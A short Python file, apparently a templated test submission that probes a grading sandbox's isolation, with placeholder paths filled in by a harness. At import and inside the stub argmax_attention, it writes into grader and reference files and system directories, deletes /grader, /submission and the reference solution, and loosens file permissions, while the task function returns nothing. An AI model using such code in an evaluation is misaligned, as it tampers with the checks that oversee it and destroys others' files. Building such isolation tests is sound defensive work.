"""Attacking the grader: write files next to the grader, over the worker code, into the submission and the project."""

import os
import shutil

TARGETS = ["/grader/worker.py", "/grader/wire.py", "/grader/__MARKER__.py", "/submission/qkv_arithmetic.py", "/submission/__MARKER__.py",
           "__PROJECT__/autograder/grading.py", "__PROJECT__/reference/qkv_arithmetic.py", "__PROJECT__/__MARKER__.txt",
           "__REAL_PROJECT__/__MARKER__.txt", "__REAL_PROJECT__/.venv/__MARKER__.txt", "__SCRATCH__/__MARKER__.txt",
           "__OUT__", "/__MARKER__.txt", "/usr/__MARKER__.txt", "/etc/__MARKER__.txt", "/tmp/__MARKER__.txt", "/dev/shm/__MARKER__.txt"]


def _attack() -> None:
    done = []
    for path in TARGETS:
        try:
            with open(path, "a") as f:
                f.write("# __MARKER__\n")
            done.append(path)
        except OSError:
            pass
    for path in ("/grader", "/submission", "__PROJECT__/reference"):
        try:
            shutil.rmtree(path)
            done.append("rmtree " + path)
        except OSError:
            pass
    for path in ("/grader/worker.py", "/submission/qkv_arithmetic.py"):
        try:
            os.chmod(path, 0o777)
            done.append("chmod " + path)
        except OSError:
            pass
    print("wrote:", sorted(done))


_attack()


def argmax_attention(Q, K, V):
    _attack()
    return None
